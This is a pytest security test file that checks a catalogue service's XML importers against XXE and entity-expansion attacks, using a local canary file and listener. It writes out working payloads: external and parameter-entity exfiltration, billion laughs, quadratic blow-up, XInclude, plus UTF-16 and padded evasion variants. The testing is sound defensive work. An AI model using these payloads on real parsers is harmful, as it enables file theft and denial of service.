"""XML attacks on every XML importer (Dublin Core, EAD, mapped XML): nothing gets out.

Each attack runs through ``CatalogService.import_file``. Whether it is refused or read,
the canary file's marker appears in no record and no message, the listener on 127.0.0.1
is never contacted, and the import ends within 5 s (QUALITY.md's budget is 1 s; the
margin is for loaded CI machines) and 256 MB (Python allocations by ``tracemalloc``, and
the process's peak resident memory, which includes libxml2's, where Linux lets us reset
it).

Entity declarations are refused by a check of the raw bytes before lxml sees the file
(``xml_input.check_prologue``); the UTF-16 and padded variants get past where that check
looks, to prove that the parser's own settings (no DTD loaded, no entity resolved, no
network) hold on their own.
"""

from __future__ import annotations

import json
import os
import shutil
import time
import tracemalloc
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass
from pathlib import Path

import pytest

from catalog.domain.errors import ImportFileError
from catalog.services.catalog import CatalogService
from tests.security.conftest import Canary, Listener
from tests.security.files import Rec, build

XML_IMPORTERS = ("dc", "ead", "mapped-xml")
ROOTS = {"dc": "OAI-PMH", "ead": "ead", "mapped-xml": "records"}
DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n'
SECONDS = 5.0
MEGABYTES = 256
UNSAFE = "the file declares XML entities, which Catalog does not read (unsafe)"


@dataclass(frozen=True)
class Traps:
    canary: Canary
    listener: Listener
    folder: Path

    def dtd_file(self) -> str:
        """A DTD on disk that would bring the canary's marker in as ``&leak;``."""
        path = self.folder / "canary.dtd"
        path.write_text(f'<!ENTITY leak "{self.canary.marker}">\n', encoding="ascii")
        return path.as_uri()


def document(fmt: str, doctype: str = "", body: str = "&leak;", root_attrs: str = "") -> str:
    """A well-formed file of ``fmt`` with a DOCTYPE and ``body`` in its second record."""
    text = build(fmt, [Rec("Cable one", uid="a1"), Rec("Cable two", summary="XBODYX", uid="a2")])
    text_ = text.decode("utf-8").replace("XBODYX", body)
    if doctype:
        text_ = text_.replace(DECLARATION, DECLARATION + doctype + "\n", 1)
    if root_attrs:
        root = ROOTS[fmt]
        text_ = text_.replace(f"<{root}", f"<{root} {root_attrs}", 1)
    return text_


Attack = Callable[[str, Traps], bytes]


def utf8(make: Callable[[str, Traps], str]) -> Attack:
    return lambda fmt, traps: make(fmt, traps).encode("utf-8")


def utf16(make: Callable[[str, Traps], str]) -> Attack:
    """The same attack in UTF-16: the byte-level check of the prologue cannot read it."""

    def attack(fmt: str, traps: Traps) -> bytes:
        text = make(fmt, traps).replace('encoding="UTF-8"', 'encoding="UTF-16"')
        return text.encode("utf-16")

    return attack


def padded(make: Callable[[str, Traps], str]) -> Attack:
    """The same attack with its DOCTYPE after 300 KB of comment (past the prologue check)."""

    def attack(fmt: str, traps: Traps) -> bytes:
        text = make(fmt, traps)
        padding = "<!--" + " pad" * 75_000 + " -->\n"
        return text.replace(DECLARATION, DECLARATION + padding, 1).encode("utf-8")

    return attack


def file_entity(fmt: str, traps: Traps) -> str:
    root = ROOTS[fmt]
    doctype = f'<!DOCTYPE {root} [<!ENTITY leak SYSTEM "{traps.canary.url}">]>'
    return document(fmt, doctype)


def http_entity(fmt: str, traps: Traps) -> str:
    root = ROOTS[fmt]
    doctype = f'<!DOCTYPE {root} [<!ENTITY leak SYSTEM "{traps.listener.url("entity")}">]>'
    return document(fmt, doctype)


def parameter_entity(fmt: str, traps: Traps) -> str:
    # The out-of-band trick: read the canary into a parameter entity, then send it to the
    # listener in a URL.
    root = ROOTS[fmt]
    doctype = (
        f"<!DOCTYPE {root} [\n"
        f'<!ENTITY % file SYSTEM "{traps.canary.url}">\n'
        f'<!ENTITY % remote SYSTEM "{traps.listener.url("evil.dtd")}">\n'
        f"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{traps.listener.url()}?%file;'>\">\n"
        "%remote; %wrap; %send;\n"
        "]>"
    )
    return document(fmt, doctype)


def external_dtd_http(fmt: str, traps: Traps) -> str:
    doctype = f'<!DOCTYPE {ROOTS[fmt]} SYSTEM "{traps.listener.url("x.dtd")}">'
    return document(fmt, doctype)


def external_dtd_public(fmt: str, traps: Traps) -> str:
    # How an EAD 2002 finding aid names its DTD, here on the listener.
    doctype = (
        f'<!DOCTYPE {ROOTS[fmt]} PUBLIC "+//ISBN 1-931666-00-8//DTD ead.dtd (EAD Version 2002)//EN"'
        f' "{traps.listener.url("ead.dtd")}">'
    )
    return document(fmt, doctype)


def external_dtd_file(fmt: str, traps: Traps) -> str:
    return document(fmt, f'<!DOCTYPE {ROOTS[fmt]} SYSTEM "{traps.dtd_file()}">')


def billion_laughs(fmt: str, traps: Traps) -> str:
    entities = ['<!ENTITY lol0 "lol">']
    for level in range(1, 10):
        entities.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">')
    doctype = f"<!DOCTYPE {ROOTS[fmt]} [\n" + "\n".join(entities) + "\n]>"
    return document(fmt, doctype, body="&lol9;", root_attrs='data-x="&lol9;"')


def quadratic_blowup(fmt: str, traps: Traps) -> str:
    # One 50 KB entity used 50,000 times: 2.5 GB if expanded, no nesting to detect.
    doctype = f'<!DOCTYPE {ROOTS[fmt]} [<!ENTITY a "{"A" * 50_000}">]>'
    return document(fmt, doctype, body="&a;" * 50_000)


def xinclude(fmt: str, traps: Traps) -> str:
    body = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text"'
        f' href="{traps.canary.url}"/>'
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude"'
        f' href="{traps.listener.url("inc.xml")}"/>'
    )
    return document(fmt, body=body)


def schema_location(fmt: str, traps: Traps) -> str:
    attrs = (
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        f' xsi:schemaLocation="urn:x {traps.listener.url("x.xsd")}"'
        f' xsi:noNamespaceSchemaLocation="{traps.canary.url}"'
    )
    return document(fmt, body="plain", root_attrs=attrs)


def stylesheet(fmt: str, traps: Traps) -> str:
    text = document(fmt, body="plain")
    pi = f'<?xml-stylesheet type="text/xsl" href="{traps.listener.url("x.xsl")}"?>\n'
    return text.replace(DECLARATION, DECLARATION + pi, 1)


ATTACKS: dict[str, Attack] = {
    "external entity (file)": utf8(file_entity),
    "external entity (http)": utf8(http_entity),
    "parameter entities (out of band)": utf8(parameter_entity),
    "billion laughs": utf8(billion_laughs),
    "quadratic blow-up": utf8(quadratic_blowup),
    "UTF-16 external entity (file)": utf16(file_entity),
    "UTF-16 external entity (http)": utf16(http_entity),
    "UTF-16 parameter entities": utf16(parameter_entity),
    "UTF-16 billion laughs": utf16(billion_laughs),
    "UTF-16 quadratic blow-up": utf16(quadratic_blowup),
    "padded external entity (file)": padded(file_entity),
    "padded parameter entities": padded(parameter_entity),
    "padded billion laughs": padded(billion_laughs),
    # No entity declared: these may be read, with nothing fetched.
    "external DTD (http, SYSTEM)": utf8(external_dtd_http),
    "external DTD (http, PUBLIC)": utf8(external_dtd_public),
    "external DTD (file)": utf8(external_dtd_file),
    "XInclude": utf8(xinclude),
    "schema locations": utf8(schema_location),
    "stylesheet": utf8(stylesheet),
}
DECLARES_ENTITIES = set(list(ATTACKS)[:13])


# ----------------------------------------------------------------------------- measuring


def _status(field: str) -> int | None:
    """A memory figure of this process from /proc (kB), or None off Linux."""
    try:
        with open("/proc/self/status", encoding="ascii") as status:
            for line in status:
                if line.startswith(field + ":"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


def _reset_peak() -> bool:
    """Reset the peak resident memory (Linux 4.0+); False where that is not possible."""
    try:
        with open("/proc/self/clear_refs", "w", encoding="ascii") as clear:
            clear.write("5")
    except OSError:
        return False
    return True


@dataclass
class Cost:
    seconds: float = 0.0
    traced_mb: float = 0.0
    rss_growth_mb: float | None = None


def _log(attack: str, fmt: str, outcome: str, cost: Cost) -> None:
    """Append the cost of one attack to $CATALOG_SECURITY_COSTS (JSON lines), if set."""
    target = os.environ.get("CATALOG_SECURITY_COSTS")
    if target:
        with open(target, "a", encoding="utf-8") as out:
            out.write(
                json.dumps({"attack": attack, "format": fmt, "outcome": outcome, **asdict(cost)})
                + "\n"
            )


@pytest.fixture
def traps(canary: Canary, listener: Listener, tmp_path: Path) -> Traps:
    return Traps(canary, listener, tmp_path)


@pytest.fixture(scope="module")
def empty_catalogue(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A closed, empty catalogue file, copied for each attack (faster than creating one)."""
    folder = tmp_path_factory.mktemp("empty")
    CatalogService.open(folder / "empty.sqlite", cache_dir=folder).close()
    return folder / "empty.sqlite"


@pytest.fixture
def catalogue(empty_catalogue: Path, tmp_path: Path) -> Iterator[CatalogService]:
    target = tmp_path / "catalogue.sqlite"
    shutil.copyfile(empty_catalogue, target)
    service = CatalogService.open(target, cache_dir=tmp_path)
    yield service
    service.close()


def test_the_traps_work(listener: Listener, canary: Canary) -> None:
    """The listener counts a real fetch and serves the marker, the watch counts a read of
    the canary: zero means something."""
    from urllib.request import urlopen

    assert listener.hits() == 0
    with urlopen(listener.url("probe"), timeout=5) as response:
        assert response.read().decode() == canary.marker
    assert listener.hits() == 1
    if canary.watch.count() is None:
        pytest.skip("opens of a file can be watched only on Linux")
    assert canary.opened() == 0
    assert canary.path.read_text() == canary.marker
    assert canary.opened() == 1


@pytest.mark.parametrize("attack", ["external entity (file)", "padded external entity (file)"])
def test_an_unprotected_parser_falls_into_them(attack: str, traps: Traps, tmp_path: Path) -> None:
    """lxml told to load DTDs and resolve entities reads the canary: the attacks are real,
    so their failing below is the settings' doing. (libxml2 2.14 dropped its HTTP client,
    so no parser of this build fetches a URL; the listener guards older builds and any
    resolver someone adds.)"""
    from lxml import etree

    unsafe = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=False)
    path = tmp_path / "attack.xml"
    path.write_bytes(ATTACKS[attack]("mapped-xml", traps))
    assert traps.canary.marker in etree.tostring(etree.parse(str(path), unsafe)).decode()
    assert traps.canary.opened() == 1 or traps.canary.watch.count() is None


@pytest.mark.parametrize("fmt", XML_IMPORTERS)
@pytest.mark.parametrize("attack", list(ATTACKS))
def test_attack(
    attack: str,
    fmt: str,
    traps: Traps,
    catalogue: CatalogService,
    tmp_path: Path,
) -> None:
    path = tmp_path / "attack.xml"
    path.write_bytes(ATTACKS[attack](fmt, traps))
    cost = Cost()
    peak_reset = _reset_peak()
    rss_before = _status("VmRSS")
    tracemalloc.start()
    started = time.perf_counter()
    try:
        report, _ = catalogue.import_file(path, fmt)
        outcome = f"read {report.records} records"
    except ImportFileError as error:
        outcome = f"refused: {error.reason}"
        assert str(path) in str(error)
        assert traps.canary.marker not in str(error)
    finally:
        cost.seconds = time.perf_counter() - started
        cost.traced_mb = tracemalloc.get_traced_memory()[1] / 2**20
        tracemalloc.stop()
        peak = _status("VmHWM")
        if peak_reset and peak is not None and rss_before is not None:
            cost.rss_growth_mb = (peak - rss_before) / 1024
    _log(attack, fmt, outcome, cost)

    if attack in DECLARES_ENTITIES:
        assert outcome == "refused: " + UNSAFE
    records = catalogue.details(catalogue.search("").ids)
    assert traps.canary.marker not in repr(records), "the canary was read into a record"
    assert all("lollol" not in r.title + r.summary for r in records), "an entity was expanded"
    assert all("AAAAAAAA" not in r.title + r.summary for r in records), "an entity was expanded"
    assert traps.listener.hits() == 0, "the import connected to the listener"
    assert traps.canary.opened() == 0, "the import opened the canary"
    assert cost.seconds < SECONDS, outcome
    assert cost.traced_mb < MEGABYTES, outcome
    if cost.rss_growth_mb is not None:
        assert cost.rss_growth_mb < MEGABYTES, outcome
